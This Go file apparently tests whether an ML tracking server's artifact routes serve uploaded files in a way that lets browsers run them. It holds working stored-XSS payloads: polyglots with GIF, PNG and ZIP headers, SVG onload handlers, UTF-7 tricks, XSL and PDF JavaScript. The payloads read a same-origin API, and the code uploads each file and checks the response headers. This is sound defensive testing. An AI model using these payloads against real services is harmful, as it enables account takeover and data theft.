package enemy

import (
	"context"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strings"
)

const evil = `fetch("/api/varve/v1/home").then(r=>r.text()).then(t=>document.title="read:"+t)`

// Scripts are files, by name, that some browser has run, or might take for something
// that it runs.
func Scripts() map[string]string {
	page := "<!doctype html><title>still</title><script>" + evil + "</script>"
	svg := `<svg xmlns="http://www.w3.org/2000/svg" onload='` + evil + `'><script>` + evil + `</script><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:1"/></foreignObject></svg>`
	return map[string]string{
		"page.html": page, "page.htm": page, "page.HTML": page, "page.shtml": page, "page": page, "page.txt": page, "page.unknown": page, "page.bin": page, "page.html.txt": page, "page.png": page, "page.jpg": page, "page.csv": page, "page.json": page, "page.md": page, "page.log": page, "page.php": page, "page.html%20.png": page, "page.html;.txt": page, "page.html ": page, "page.mht": "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + page, "page.hta": page, "page.webarchive": page,
		"utf7.html": "+ADw-script+AD4-" + evil + "+ADw-/script+AD4-", "utf16.html": "\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00", "bom.txt": "\xef\xbb\xbf" + page, "padded.txt": strings.Repeat(" ", 600) + page,
		"drawing.svg": svg, "drawing.SVG": svg, "drawing.svgz": svg, "drawing.xml": svg, "drawing.txt": svg,
		"page.xhtml": `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>` + evil + `</script></html>`, "page.xht": `<html xmlns="http://www.w3.org/1999/xhtml"><script>` + evil + `</script></html>`,
		"sheet.xml": `<?xml-stylesheet type="text/xsl" href="sheet.xsl"?><a/>`, "sheet.xsl": `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>` + evil + `</script></html></xsl:template></xsl:stylesheet>`, "sheet.rss": `<rss><channel><link>javascript:1</link></channel></rss>`, "page.rdf": "<RDF/>", "page.mathml": `<math><mtext href="javascript:1"/></math>`,
		"paper.pdf": "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n", "code.js": evil, "code.mjs": evil, "code.wasm": "\x00asm\x01\x00\x00\x00", "code.css": "a{background:url(javascript:1)}", "worker.js": "onmessage=()=>{}", "manifest.json": `{"start_url":"/"}`, "page.swf": "FWS\x09", "page.jar": "PK\x03\x04", "page.class": "\xca\xfe\xba\xbe",
		"gif.html": "GIF89a/*" + page + "*/=0;" + evil, "gif.js": "GIF89a=0;" + evil, "jpeg.jpg": "\xff\xd8\xff\xe0/*" + page, "png.png": "\x89PNG\r\n\x1a\n" + page, "zip.zip": "PK\x03\x04" + page, "bmp.bmp": "BM" + page, "riff.webp": "RIFF\x00\x00\x00\x00WEBP" + page, "movie.mp4": "\x00\x00\x00\x18ftypmp42" + page, "sound.wav": "RIFF\x00\x00\x00\x00WAVE" + page, "sound.ogg": "OggS" + page, "table.tsv": page, "model.pkl": page, "notebook.ipynb": `{"cells":[{"outputs":[{"data":{"text/html":"<script>1</script>"}}]}]}`, "MLmodel": page, "page.eml": page, "page.vtt": "WEBVTT\n" + page, "script.py": page,
	}
}

// Shown are the routes that answer with the bytes of a file of a run.
func (k Known) Shown(name string) map[string]string {
	s := segment(name)
	return map[string]string{
		"get-artifact": "/get-artifact?run_id=" + k.Run + "&path=" + s, "get-artifact, old": "/get-artifact?run_uuid=" + k.Run + "&path=" + s,
		"proxy": proxy + "/" + k.Experiment + "/" + k.Run + "/artifacts/" + s, "proxy, ajax": strings.Replace(proxy, "/api", "/ajax-api", 1) + "/" + k.Experiment + "/" + k.Run + "/artifacts/" + s,
		"file of a run": "/api/varve/v1/runs/" + k.Run + "/artifact?path=" + s, "file at an address": "/api/varve/v1/artifacts/file?address=runs:/" + k.Run + "&path=" + s,
		"file of a model": mlflow + "logged-models/" + k.Model + "/artifacts/files?artifact_file_path=" + s,
	}
}

// MightRun says why a browser might run a file that comes with these headers as one of
// the pages of whoever sent it; nothing if it cannot.
func MightRun(h http.Header) (why []string) {
	policy := h.Get("Content-Security-Policy")
	sandboxed := false
	for directive := range strings.SplitSeq(policy, ";") {
		words := strings.Fields(directive)
		if len(words) > 0 && words[0] == "sandbox" {
			sandboxed = !slices.Contains(words, "allow-scripts") && !slices.Contains(words, "allow-same-origin")
		}
	}
	if !sandboxed {
		why = append(why, "no sandbox in the policy "+policy)
	}
	if h.Get("X-Content-Type-Options") != "nosniff" {
		why = append(why, "its kind is guessed")
	}
	if kind, _, _ := strings.Cut(h.Get("Content-Disposition"), ";"); kind != "attachment" {
		why = append(why, "it is shown, not saved: "+h.Get("Content-Disposition"))
	}
	if kind, _, _ := strings.Cut(strings.ToLower(h.Get("Content-Type")), ";"); kind == "" || strings.Contains(kind, "javascript") || strings.Contains(kind, "ecmascript") || kind == "text/css" || kind == "application/wasm" {
		why = append(why, "its kind is "+kind)
	}
	if h.Get("Access-Control-Allow-Origin") != "" {
		why = append(why, "other origins may read it")
	}
	if h.Get("Cross-Origin-Resource-Policy") != "same-origin" {
		why = append(why, "other pages may embed it")
	}
	return why
}

// ShowScripts stores all Scripts with a run and a logged model, asks for them by every
// route, and says which might run.
func (a *Attack) ShowScripts(ctx context.Context, k Known) (asked int, wrong []string, err error) {
	a.client = &http.Client{}
	defer a.client.CloseIdleConnections()
	scripts := Scripts()
	for _, name := range slices.Sorted(maps.Keys(scripts)) {
		for _, folder := range []string{k.Run, "models/" + k.Model} {
			r := Request{Method: "PUT", Target: proxy + "/" + k.Experiment + "/" + folder + "/artifacts/" + segment(name), Body: scripts[name]}
			if status, _, body, err := a.do(ctx, r); err != nil || status != http.StatusOK {
				return asked, nil, fmt.Errorf("%s: %d %s, %w", r.Target, status, body, err)
			}
		}
		for where, target := range k.Shown(name) {
			for _, method := range []string{"GET", "HEAD"} {
				asked++
				req, err := NewRequest(ctx, a.Address, Request{Method: method, Target: target})
				if err != nil {
					return asked, nil, err
				}
				resp, err := a.client.Do(req)
				if err != nil {
					return asked, nil, err
				}
				resp.Body.Close()
				if resp.StatusCode != http.StatusOK {
					a.note("%s of %q: %d", where, name, resp.StatusCode)
				}
				for _, why := range MightRun(resp.Header) {
					a.note("%s of %q: %s", where, name, why)
				}
			}
		}
	}
	return asked, a.wrong, nil
}
